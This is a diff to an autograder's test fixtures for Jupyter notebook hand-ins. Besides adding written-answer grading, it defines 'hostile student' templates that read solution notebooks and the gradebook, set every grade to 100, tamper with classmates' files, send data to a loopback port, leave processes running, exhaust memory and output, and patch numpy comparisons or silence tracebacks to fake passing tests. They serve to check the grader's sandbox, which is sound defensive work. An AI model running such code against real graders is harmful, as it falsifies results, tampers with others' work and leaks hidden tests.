@@ -15,7 +15,7 @@ from typing import Callable
 
 import nbformat
 
-from workbook import cell_by_id, chapter_ids, exercises, source_notebook, submission
+from workbook import cell_by_id, chapter_ids, exercises, source_notebook, submission, written_answers
 
 CH01, CH02, CH03, CH04, CH05 = chapter_ids()
 ALL = "all"
@@ -40,6 +40,7 @@ class Handin:
     edit: Callable | None = None  # a change to the notebook: a trick the grader must see through
     name: str | None = None  # the file name, when not the chapter's own (path inside the student folder)
     raw: bytes | None = None  # the file's bytes, when it is not a notebook at all
+    writes: str | set[int] = frozenset()  # written answers (discussion questions) answered, by number, or ALL
 
     def numbers(self, which) -> set[int]:
         every = {e.number for e in exercises(self.chapter)}
@@ -50,7 +51,14 @@ class Handin:
         if self.raw is not None:
             return None
         earning = self.numbers(self.solved if self.earns is None else self.earns)
-        return {e.test_id: (e.points if e.number in earning else 0.0) for e in exercises(self.chapter)}
+        earned = {e.test_id: (e.points if e.number in earning else 0.0) for e in exercises(self.chapter)}
+        return earned | {w.grade_id: 0.0 for w in written_answers(self.chapter)}  # 0 until graded by hand
+
+    def to_grade_by_hand(self) -> int:
+        """How many of this hand-in's written answers wait for a hand grade (the answered ones)."""
+        if self.raw is not None or self.expected() is None:
+            return 0
+        return sum(self.writes == ALL or w.number in self.writes for w in written_answers(self.chapter))
 
     def write(self, student_folder: Path, flat: bool) -> None:
         default = source_notebook(self.chapter).name if flat else f"{self.chapter}/{source_notebook(self.chapter).name}"
@@ -61,6 +69,9 @@ class Handin:
             return
         answers = {exercises(self.chapter)[n - 1].answer_id for n in self.numbers(self.solved)}
         nb = submission(self.chapter, answers)
+        for answer in written_answers(self.chapter):
+            if self.writes == ALL or answer.number in self.writes:
+                cell_by_id(nb, answer.grade_id).source = f"A student's thoughts on {answer.grade_id}."
         if self.edit:
             self.edit(nb)
         nbformat.write(nb, path)
@@ -110,17 +121,18 @@ def every_other(chapter: str, start: int) -> set[int]:
 CHAPTERS = [CH01, CH02, CH03, CH04, CH05]
 
 CLASS: dict[str, tuple[bool, list[Handin]]] = {  # student: (flat folder?, hand-ins)
-    "ada": (False, [Handin(ch) for ch in CHAPTERS]),
+    "ada": (False, [Handin(ch, writes=ALL) for ch in CHAPTERS]),  # written answers wait for a hand grade
     "bob": (True, [Handin(ch, solved=set()) for ch in CHAPTERS]),
-    "cy": (False, [Handin(ch, solved=every_other(ch, 1)) for ch in CHAPTERS]),
+    "cy": (False, [Handin(ch, solved=every_other(ch, 1), writes={1}) for ch in CHAPTERS]),
     "dee": (True, [Handin(ch, solved=every_other(ch, 2)) for ch in CHAPTERS]),
     # Tricks: a test rewritten to `pass` over a blank answer, an answer hard-coded for the visible
     # test, a deleted test cell (added back, and the solved exercise earns its points).
     "mallory": (False, [Handin(CH01, solved={2, 3, 4}, earns={3, 4},
                                edit=lambda nb: (rewrite_test_1_to_pass(nb), hardcode_build(nb), delete_test_3(nb)))]),
-    # Kernels that hang and crash: the hang times out and the rest is graded; the crash costs the chapter.
+    # Kernels that hang and crash: the hang times out and the rest is graded; the crash keeps what ran
+    # before it (exercise 1) and costs the rest of the chapter.
     "eve": (False, [Handin(CH04, earns={2, 3, 4}, edit=loop_forever_in_exercise_1(CH04))]),
-    "fay": (True, [Handin(CH05, earns=set(), edit=crash_kernel_in_exercise_2(CH05)), Handin(CH04)]),
+    "fay": (True, [Handin(CH05, earns={1}, edit=crash_kernel_in_exercise_2(CH05)), Handin(CH04)]),
     # Broken files: a notebook under an LMS's name (graded), one that is not JSON, a text file.
     "gus": (True, [Handin(CH02, name="ch02_deep (1).ipynb"),
                    Handin(CH03, raw=b'{"cells": [ this is not JSON'),
@@ -143,3 +155,109 @@ def expected_scores(students: dict = CLASS) -> dict:
     for student, (_, handins) in students.items():
         found[student] = {h.chapter: h.expected() for h in handins if h.expected() is not None}
     return found
+
+
+# -- hostile students: code that attacks the grader from inside an answer cell ----------------------------------
+#
+# Each hands in chapter 4 with exercises 1 and 2 solved honestly and an attack appended to exercise 3's
+# answer cell (after the unsolved function, which it may redefine), so each must earn exactly exercises 1
+# and 2. The attacks
+# are templates: $solutions, $course, $submissions, $port and $marker are filled in by the test.
+
+HOSTILE_CHAPTER = CH04
+ATTACKS = {
+    # Read a solution notebook, or the gradebook (which holds every hidden test), and exec the answers.
+    "reader": '''
+import glob, json, sqlite3
+for path in glob.glob("$solutions/*/*.ipynb"):
+    for cell in json.load(open(path))["cells"]:
+        if cell["metadata"].get("nbgrader", {}).get("solution"):
+            exec("".join(cell["source"]), globals())
+print([row for row in sqlite3.connect("file:$course/gradebook.db?mode=ro", uri=True).execute("select source from source_cell")])
+''',
+    # Give the whole class full marks: manual_score overrides every automatic score.
+    "writer": '''
+import sqlite3
+with sqlite3.connect("$course/gradebook.db") as db:
+    db.execute("update grade set manual_score = 100")
+''',
+    # Append to other students' hand-ins and the grader's copies of them.
+    "meddler": '''
+import glob
+for path in glob.glob("$submissions/**/*.ipynb", recursive=True) + glob.glob("$course/**/*.ipynb", recursive=True):
+    open(path, "a").write("MEDDLED" + "-BY-MEDDLER")
+''',
+    # Reach the network: a port on the grader's loopback where the test listens.
+    "caller": '''
+import socket
+socket.create_connection(("127.0.0.1", $port), timeout=5).sendall(b"exfiltrated")
+''',
+    # Leave a process running after grading, in a session of its own.
+    "lingerer": '''
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "$marker"], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+''',
+    # Allocate far past the memory limit, and write a file past the file-size limit.
+    "hog": '''
+try:
+    open("big.bin", "wb").write(b"0" * (512 * 2**20))
+except OSError as error:
+    print("file:", error)
+hoard = bytearray(16 * 2**30)
+''',
+    # Print a flood: 100 MB of output.
+    "flooder": '''
+for _ in range(100):
+    print("x" * 1_000_000)
+''',
+    # Make failing asserts pass: numpy's comparisons replaced by ones that always succeed.
+    "patcher": '''
+import numpy
+def bernoulli_kl(p, q, eps=1e-7):
+    return numpy.full(numpy.shape(q), 2.0)
+numpy.testing.assert_allclose = lambda *args, **kwargs: None
+numpy.isclose = lambda *args, **kwargs: numpy.True_
+numpy.allclose = lambda *args, **kwargs: True
+''',
+    # Objects whose every comparison succeeds and whose every attribute and call returns another one.
+    "magician": '''
+class Anything:
+    def __eq__(self, other): return True
+    __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
+    def __bool__(self): return True
+    def __getattr__(self, name): return Anything()
+    def __call__(self, *args, **kwargs): return Anything()
+    def __getitem__(self, key): return Anything()
+    def __float__(self): return 0.0
+    def __array__(self, *args, **kwargs): return __import__("numpy").asarray(True)
+bernoulli_kl = Anything()
+''',
+    # Silence failures: IPython's traceback hooks, and a transformer that wraps every cell in try/except.
+    "silencer": '''
+import textwrap
+def bernoulli_kl(p, q, eps=1e-7):
+    return 0.0
+shell = get_ipython()
+shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
+shell.showtraceback = lambda *args, **kwargs: None
+shell.input_transformers_cleanup.append(
+    lambda lines: ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"])
+''',
+}
+
+
+def attack(name: str, **values) -> Callable:
+    from string import Template
+
+    def edit(nb):
+        cell = cell_by_id(nb, answer(HOSTILE_CHAPTER, 3))
+        cell.source += "\n" + Template(ATTACKS[name]).substitute(values)
+    return edit
+
+
+def hostile_class(**values) -> dict:
+    """An honest student beside one student per attack."""
+    honest = {"ada": (False, [Handin(HOSTILE_CHAPTER)])}
+    return honest | {name: (False, [Handin(HOSTILE_CHAPTER, solved={1, 2}, edit=attack(name, **values))])
+                     for name in ATTACKS}
